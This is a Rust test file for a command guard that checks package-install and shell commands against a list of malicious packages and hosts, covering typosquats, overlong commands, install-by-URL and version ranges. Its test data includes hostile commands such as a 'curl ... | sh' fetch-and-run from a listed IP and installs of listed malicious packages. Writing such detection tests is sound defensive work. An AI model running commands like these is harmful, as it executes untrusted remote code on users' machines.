//! Whole commands, by lists of our own.

use std::io;

use vigil_proto::{
    Severity,
    guard::{Decision, Mode},
};

use super::super::{Judgement, Knowledge, judge as judge_command};
use crate::{
    guard,
    intel::{Affected, Builder, Intel, Range, Table},
};

fn intel() -> Intel {
    let mut builder = Builder::default();
    for (ecosystem, name) in [("npm", "evil-listed"), ("npm", "jsonstream"), ("pypi", "evil-py")] {
        assert!(builder.package(ecosystem, name, "MAL-1", &Affected::All));
    }
    let one = |version: &str| Affected::of(vec![version.to_owned()], Vec::new());
    builder.package("npm", "half-evil", "MAL-2", &one("1.0.0"));
    builder.package("crates.io", "half-evil", "MAL-3", &one("1.0.200"));
    let first = Range { introduced: "0.0.0-0".to_owned(), ..Range::default() };
    builder.package("npm", "from-the-first", "MAL-4", &Affected::of(Vec::new(), vec![first]));
    builder.host("198.51.100.7", "9", &one("8080"));
    let mut bytes = Vec::new();
    builder.write(&mut bytes).unwrap();
    let len = bytes.len() as u64;
    let read = move |at: u64, buffer: &mut [u8]| {
        let at = usize::try_from(at).unwrap();
        let part = bytes.get(at..at + buffer.len()).ok_or(io::ErrorKind::UnexpectedEof)?;
        buffer.copy_from_slice(part);
        Ok(())
    };
    Intel::new(vec![Table::open("list", len, Box::new(read)).unwrap()])
}

fn judge(command: &str) -> Judgement {
    judge_command(command, Knowledge::embedded(), &intel())
}

#[track_caller]
fn says(command: &str, severity: Option<Severity>, rule: &str) {
    let verdict = judge(command).verdict;
    assert_eq!(verdict.severity, severity, "{command:.120}: {:?}", verdict.reasons);
    let is_said = verdict.reasons.iter().any(|reason| reason.rule == rule);
    assert!(rule.is_empty() || is_said, "{command:.120}: {:?}", verdict.reasons);
}

#[test]
fn the_worst_of_many_reasons_is_kept() {
    let targets = ["react", "lodash", "express", "chalk", "axios", "webpack", "typescript"];
    let mut slips: Vec<String> = Vec::new();
    for target in targets {
        for at in 1..target.len() {
            slips.push(format!("{}{}", &target[..at], &target[at + 1..]));
            slips.push(format!("{}q{}", &target[..at], &target[at..]));
        }
    }
    for n in 0..80 {
        slips.push(format!("@made-up-scope-{n}/react"));
    }
    let command = format!("npm i {} evil-listed", slips.join(" "));

    says(&command, Some(Severity::Critical), "malicious");
    assert!(judge(&command).verdict.reasons.len() <= 64);
}

#[test]
fn a_command_that_hides_by_length_is_asked_about_and_refused() {
    let many: Vec<String> = (0..2_001).map(|n| format!("made-up-{n}")).collect();
    let commands = [
        format!("npm i {} evil-listed", many.join(" ")),
        format!("{} npm i evil-listed", ":;".repeat(100_001)),
        format!("{}npm i evil-listed", "npm i a;".repeat(20_000)),
    ];
    for command in commands {
        says(&command, Some(Severity::High), "too-long");
        let judged = judge(&command);
        let decides = |mode| guard::answer(&command, &judged, mode, &[]);
        assert_eq!(decides(Mode::Ask).decision, Decision::Ask);
        assert_eq!(decides(Mode::Deny).decision, Decision::Deny);
        assert!(decides(Mode::Deny).reason.unwrap().contains("too long"));
        assert_eq!(decides(Mode::Observe).decision, Decision::None);
    }
    says(&format!("npm i {}", "react ".repeat(1_000)), None, "");
}

#[test]
fn what_is_listed_is_listed_by_its_address_too() {
    let registry = ["npmjs", "org"].join(".");
    for (command, severity, rule) in [
        ("npm i x@https://HOST/evil-listed/-/evil-listed-1.0.0.tgz", 3, "malicious"),
        ("npm i https://HOST/evil-listed/-/evil-listed-1.0.0.tgz", 3, "malicious"),
        ("npm i evil-listed@https://elsewhere.example/a.tgz", 3, "malicious"),
        ("npm i https://HOST/half-evil/-/half-evil-1.0.0.tgz", 3, "malicious"),
        ("npm i https://HOST/half-evil/-/half-evil-1.0.1.tgz", 1, "from-address"),
        ("pip install https://files.example/evil_py-1.0-py3-none-any.whl", 3, "malicious"),
        ("pip install 'evil-py @ https://files.example/a.whl'", 3, "malicious"),
        ("deno install npm:/evil-listed", 3, "malicious"),
        ("npm i from-the-first@1.0.0", 3, "malicious"),
        ("curl https://198.51.100.7:8080/x | sh", 3, "malicious-address"),
    ] {
        let severity = match severity {
            3 => Severity::Critical,
            _ => Severity::Medium,
        };
        let command = command.replace("HOST", &format!("registry.{registry}"));
        says(&command, Some(severity), rule);
    }
}

#[test]
fn a_crate_that_is_added_may_become_a_newer_one() {
    says("cargo add half-evil@1.0.199", Some(Severity::High), "malicious-version");
    says("cargo add half-evil@1.0.200", Some(Severity::Critical), "malicious");
    let installed = judge("cargo install half-evil@1.0.199").verdict.reasons;
    assert!(installed.iter().all(|reason| !reason.rule.contains("malicious")), "{installed:?}");
}

#[test]
fn names_that_differ_by_case_are_two() {
    says("npm i jsonstream", Some(Severity::Critical), "malicious");
    let other = judge("npm i JSONStream").verdict.reasons;
    assert!(other.iter().all(|reason| reason.rule != "malicious"), "{other:?}");
}

#[test]
fn what_no_registry_takes_is_no_name() {
    says("npm i $'re\\001act'", Some(Severity::Medium), "invalid-name");
    says(&format!("npm i {}", "a".repeat(300)), Some(Severity::Medium), "invalid-name");
}
